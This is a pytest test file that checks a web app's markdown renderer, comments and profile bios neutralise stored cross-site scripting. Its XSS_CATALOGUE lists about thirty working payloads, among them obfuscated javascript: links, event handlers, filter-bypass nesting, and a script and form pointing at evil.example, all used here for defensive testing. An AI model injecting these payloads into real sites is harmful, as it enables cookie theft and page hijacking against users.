"""The stored-XSS catalogue: no payload survives as active markup anywhere member text is shown."""

import pytest
from bs4 import BeautifulSoup

from accounts.models import Profile
from community import rules as community_rules
from community import services
from core.markup import render_markdown
from tests.factories.accounts import UserFactory

XSS_CATALOGUE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(document.cookie))",
    "[click](java&#115;cript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java\u200bscript:alert(1))",
    "[click](\u202ejavascript:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '![img](x" onerror="alert(1))',
    "![img](javascript:alert(1))",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<div onmouseover="alert(1)">hover</div>',
    "<svg/onload=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
    '[x](https://ok.example "title\\" onmouseover=\\"alert(1))',
    "<style>body{display:none}</style>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    '<form action="https://evil.example"><input name=x></form>',
    "<!--<script>alert(1)</script>-->",
    '<object data="javascript:alert(1)"></object>',
    "`<script>alert(1)</script>`",
]

ACTIVE_TAGS = {"script", "style", "iframe", "img", "svg", "math", "object", "embed", "form", "input", "link", "meta"}
SAFE_SCHEMES = ("http://", "https://", "mailto:", "/", "#")


def assert_inert(html: str, *, root=None) -> None:
    soup = BeautifulSoup(html, "html.parser")
    scope = soup.select_one(root) if root else soup
    if scope is None:
        return
    for tag in scope.find_all(True):
        assert tag.name not in ACTIVE_TAGS, f"active tag <{tag.name}> survived: {html}"
        for attribute, value in tag.attrs.items():
            assert not attribute.lower().startswith("on"), f"event handler {attribute} survived: {html}"
            if attribute in {"href", "src", "action", "xlink:href", "data"}:
                value = value if isinstance(value, str) else " ".join(value)
                assert value.strip().lower().startswith(SAFE_SCHEMES), f"unsafe {attribute}={value!r}"
        if tag.name == "a" and tag.get("href"):
            assert set(tag["rel"]) >= {"nofollow", "ugc", "noopener"}


@pytest.mark.parametrize("payload", XSS_CATALOGUE)
def test_render_markdown_leaves_no_active_markup(payload):
    # render_markdown is what reviews and design descriptions use, too.
    assert_inert(render_markdown(payload))
    assert_inert(render_markdown(payload, allow_links=False))
    assert "<a" not in render_markdown(payload, allow_links=False)


def test_links_get_nofollow_ugc_noopener_and_markdown_still_works():
    html = render_markdown("**bold** and *it* [site](https://example.org)\n\n> quoted\n\n- one\n- two")
    assert '<a href="https://example.org" rel="nofollow ugc noopener">site</a>' in html
    assert "<strong>bold</strong>" in html and "<em>it</em>" in html
    assert "<blockquote>" in html and "<li>one</li>" in html


def test_raw_html_is_shown_as_text_not_markup():
    assert render_markdown("<b>hi</b>") == "<p>&lt;b&gt;hi&lt;/b&gt;</p>"


@pytest.mark.parametrize("payload", XSS_CATALOGUE)
def test_comment_payloads_are_inert_on_the_page(payload, member, design, render_comments, monkeypatch):
    monkeypatch.setattr(community_rules, "COMMENT_RATE_LIMIT", 1000)
    services.comment_post(author=member, target=design, text=payload)
    html = render_comments(design, member)
    bodies = BeautifulSoup(html, "html.parser").select(".comment__body")
    assert len(bodies) == 1
    assert_inert(str(bodies[0]))


@pytest.mark.parametrize("payload", XSS_CATALOGUE)
def test_bio_payloads_are_inert_on_member_and_maker_profiles(payload, client, db):
    # The maker bio is the same Profile.bio, shown on the maker's storefront header.
    user = UserFactory(handle="bio-owner")
    Profile.objects.filter(user=user).update(bio=payload, is_maker=True)
    response = client.get("/members/bio-owner/")
    assert response.status_code == 200
    soup = BeautifulSoup(response.content, "html.parser")
    bio = soup.select_one(".member-profile__bio")
    assert bio is not None
    assert_inert(str(bio))
